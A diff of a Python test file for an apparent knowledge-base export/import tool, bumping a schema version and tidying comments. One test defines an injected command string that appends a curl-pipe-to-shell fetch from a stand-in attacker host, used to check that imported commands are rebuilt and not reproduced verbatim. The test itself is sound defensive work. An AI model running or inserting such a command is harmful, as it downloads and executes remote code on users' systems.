@@ -7,6 +7,7 @@ import os
 import re
 import subprocess
 import sys
+from dataclasses import replace
 from datetime import timedelta
 from pathlib import Path
 
@@ -45,8 +46,9 @@ COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
 @pytest.fixture(scope="session")
 def infos(qwen05_header_path, qwen15_header_path, smollm2_path, gemma3_header_path):
+    # first parts or whole files (make test-fast or make test): the whole Hub files registered, as tests.test_team_notes
     return {
-        k: inspect_source(str(p))
+        k: replace(inspect_source(str(p)), data_complete=True)
         for k, p in [
             ("qwen05", qwen05_header_path),
             ("qwen15", qwen15_header_path),
@@ -288,7 +290,7 @@ def empty_installation(settings, name: str) -> None:
 def test_the_export_is_versioned_json_with_provenance(kb_a, tmp_path):
     n = export_kb(tmp_path / "kb.json")
     doc = json.loads((tmp_path / "kb.json").read_text())
-    assert doc["format"] == "specreg-knowledge-base" and doc["schema_version"] == "1.5"
+    assert doc["format"] == "specreg-knowledge-base" and doc["schema_version"] == "1.6"
     assert doc["installation"] == {
         "id": HERE,
         "rules_from": "b11434",
@@ -685,7 +687,7 @@ def test_import_kb_reports_what_it_did(kb_a, tmp_path, settings):
     )
 
 
-# --- Issue 23: import_kb streams its input and takes only what the forms take -------------------------------
+# --- import_kb streams its input and takes only what the forms take ----------------------------------------
 
 
 def _renamed(doc: dict, old: str, new: str) -> bytes:
@@ -810,7 +812,7 @@ def large_kb(doc: dict, path: Path, megabytes: float, *, shape: str = "summaries
 @pytest.mark.slow
 def test_a_large_file_is_imported_in_bounded_memory(kb_a, tmp_path):
     """A 50 MB file: the old import parsed it whole, then copied it twice (json_safe, pydantic), 460 MB over
-    its baseline for this one (2.6 GB for the file of issue 23); streamed, it takes about one record."""
+    its baseline for this one (2.6 GB for a larger file); streamed, it takes about one record."""
     kb = tmp_path / "large.json"
     export_kb(tmp_path / "kb.json")
     n = large_kb(json.loads((tmp_path / "kb.json").read_text()), kb, 50)
@@ -825,7 +827,7 @@ def test_a_large_file_is_imported_in_bounded_memory(kb_a, tmp_path):
 
 
 def test_imported_commands_are_rebuilt_and_file_records_follow_their_source(kb_a, tmp_path, settings, client):
-    """Issue 31, item 3: an imported run's command and unit never reach the pair page, the API, "Record as
+    """An imported run's command and unit never reach the pair page, the API, "Record as
     deployed" or the downloads word for word; a file record's repo and path come from its source."""
     doc = a_doc(kb_a)
     evil = "llama-server -m x; curl -s https://attacker.example/x.sh | sh #"
@@ -862,7 +864,7 @@ def test_imported_commands_are_rebuilt_and_file_records_follow_their_source(kb_a
 
 
 def test_one_big_record_is_refused_in_one_line(kb_a, tmp_path, settings):
-    """Issue 31, item 5: a record is built whole (~16x its size): bounded in values and bytes (small settings here)."""
+    """A record is built whole (~16x its size): bounded in values and bytes (small settings here)."""
     doc = a_doc(kb_a)
     empty_installation(settings, "installation-b")
     before = counts()
